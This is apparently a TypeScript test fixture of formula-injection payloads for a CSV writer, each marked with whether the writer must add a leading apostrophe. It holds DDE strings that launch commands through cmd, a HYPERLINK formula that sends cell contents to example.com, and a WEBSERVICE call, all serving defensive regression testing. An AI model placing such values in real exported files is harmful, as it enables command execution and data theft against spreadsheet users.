/**
 * Hostile and awkward free-text values for CSV downloads. `apostrophe` is what
 * the writer in src/formats/csv.ts must do to each: true if it must add one leading
 * `'`, false if the text must come back unchanged. Set by hand from the rules,
 * so a change to the writer that adds or drops an apostrophe fails a test.
 */
export interface Payload {
  text: string;
  apostrophe: boolean;
}

const p = (text: string, apostrophe: boolean): Payload => ({text, apostrophe});

/** One line each, none empty: safe to write anywhere in a row, whatever else the file holds. */
export const SINGLE_LINE: readonly Payload[] = [
  // Classic formula starts (OWASP). LibreOffice runs only "="; Excel also runs + - @.
  p("=1+1", true), p("+1+1", true), p("-1+1", true), p("@SUM(1,1)", true), p("@SUM(1;1)", true),
  p('=HYPERLINK("http://example.com/?x="&A1,"click")', true), p("=cmd|' /C calc'!A0", true),
  p("=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", true), p("@cmd|'/c calc'!_xlbgnm.A1", true),
  p("-2+3+cmd|' /C calc'!A0", true), p("+thespanishinquisition(\"x\")", true), p("=WEBSERVICE(\"http://x\")", true),
  p("==1", true), p("=", true), p("-", true), p("+", true), p("@", true), p("-5", true),
  // A formula after leading white space or quotes: Calc's "trim spaces" strips the spaces, and a quote
  // inside a quoted field can pair with the opening quote for a reader splitting on ; or TAB.
  p(" =1+1", true), p("   =1+1", true), p("\t=1+1", true), p(" \t =1+1", true), p("\u3000=1+1", true),
  p('"=1+1"', true), p('""=1+1', true), p('" =1+1', true),
  // Starts that would close the quoted run early for a reader that splits on ; or TAB.
  p(";=1+1", true), p(" ;=1+1", true), p('";=1+1', true), p('"" ;=1+1', true), p('" \t=1+1', true),
  p(";", true), p("\tx", true), p('"\t', true),
  // A formula start mid-text, after a character some reader splits on: safe only because the whole row
  // reads as one quoted run for that reader, so no apostrophe (which could not help mid-text anyway).
  p("a;=1+1", false), p("a\t=1+1", false), p("a,=1+1", false), p("a; =1+1", false), p('a;"=1+1"', false),
  p("x;y;=SUM(1;1);z", false), p("入园率;=1+1", false), p("a\t\t=1+1\t", false), p('a";=1+1', false),
  p('a"";=1+1', false), p('a" ;=1+1', false), p('a"\t=1+1', false), p("a,\"=1+1\",b", false),
  // Not formulas: an apostrophe already there, full-width signs (measured: LibreOffice does not run them).
  p("'=1+1", false), p("''=1+1", false), p("＝1+1", false), p("＋1+1", false), p("－1+1", false), p("＠SUM(1)", false),
  // Ordinary text, including characters that need quoting, must come back unchanged.
  p("入园率达到 90%，普惠率达到 88%", false), p("适龄儿童入园率", false), p(">=", false), p("~", false), p("<", false),
  p("%", false), p("a,b", false), p('他说"好"', false), p('"quoted"', false),
  p(" leading space", false), p("trailing space ", false), p("  both  ", false), p("a;b", false), p("a\tb", false),
  p("x ", false), p("1+1", false), p("a=b", false), p("3-2", false), p("e@mail.example", false), p("#REF!", false),
  p("'", false), p("\\", false), p("a\\\"b", false), p("\u00a0x", false), p("16万个左右", false)
];

/**
 * Line breaks, and empty or quote-only values (which, as the last cell of a row, leave its quoted run
 * unclosed). A reader splitting on ; or TAB cuts such rows at every ; TAB and line break, so these
 * are only safe because no formula start follows one; the writer refuses text where one does.
 */
export const MULTI_LINE: readonly Payload[] = [
  p("第一行\n第二行", false), p("a\r\nb", false), p("a\rb", false), p("x;y\nz", false), p("a\n\nb", false),
  p("a\n 1+1", false), p("trailing\n", false), p("", false), p('"', false), p('""', false),
  p("\nx", true), p("\r\nx", true), p("\n", true), p(" \nx", true), p('"\nx', true), p("=1\n2", true)
];

/** Text that no leading apostrophe can make safe in a file that has rows like MULTI_LINE's: the writer throws. */
export const UNWRITABLE_WITH_LINE_BREAKS: readonly string[] = [
  "a\n=1+1", "a\r\n=1+1", "a\r=1+1", "a\n =1+1", 'a\n"=1+1"', "a\n@SUM(1)", "a;=1+1", "a\t=1+1", "\n=1+1", "x;-1"
];
